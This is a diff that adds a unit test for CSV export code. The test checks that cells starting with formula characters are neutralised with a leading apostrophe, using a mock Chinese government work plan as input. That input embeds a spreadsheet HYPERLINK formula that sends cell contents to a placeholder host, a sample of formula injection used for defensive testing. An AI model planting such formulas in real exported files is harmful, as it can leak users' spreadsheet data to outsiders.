@@ -114,4 +114,28 @@ describe('CSV', () => {
       }
     }
   });
+
+  it('neutralises cells Excel would run as formulas (= + - @, tab, CR): a leading apostrophe', () => {
+    assert.equal(csvField('=1+1'), "'=1+1");
+    assert.equal(csvField('+86 10'), "'+86 10");
+    assert.equal(csvField('-2+3'), "'-2+3");
+    assert.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
+    assert.equal(csvField('\t=1'), "'\t=1");
+    assert.equal(csvField('\r=1'), '"\'\r=1"');
+    assert.equal(csvField('=A1,B1'), '"\'=A1,B1"');
+    // Numbers are numbers, and text with these marks inside is left alone.
+    assert.equal(csvField(-1), '-1');
+    assert.equal(csvField('区财政局=牵头'), '区财政局=牵头');
+    const text =
+      '2026年某区政务公开工作要点\n一、强化重点领域信息公开\n' +
+      '（一）=HYPERLINK("http://x.example/?"&A1,"点击")公开预决算。（责任单位：@SUM(1+1)；完成时限：-2+3）\n' +
+      '（二）+1+1做好教育信息公开。（责任单位：区教育局；完成时限：全年）\n';
+    const { doc, analysis } = analyse(text);
+    assert.deepEqual(readCsv(taskTableCsv(doc, analysis)).slice(1), [
+      ['1', '\'=HYPERLINK("http://x.example/?"&A1,"点击")公开预决算。', "'@SUM(1+1)", "'-2+3", '3'],
+      ['2', "'+1+1做好教育信息公开。", '区教育局', '全年', '4'],
+    ]);
+    const byUnit = readCsv(tasksByUnitCsv(doc, analysis)).slice(1);
+    assert.ok(byUnit.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))), JSON.stringify(byUnit));
+  });
 });
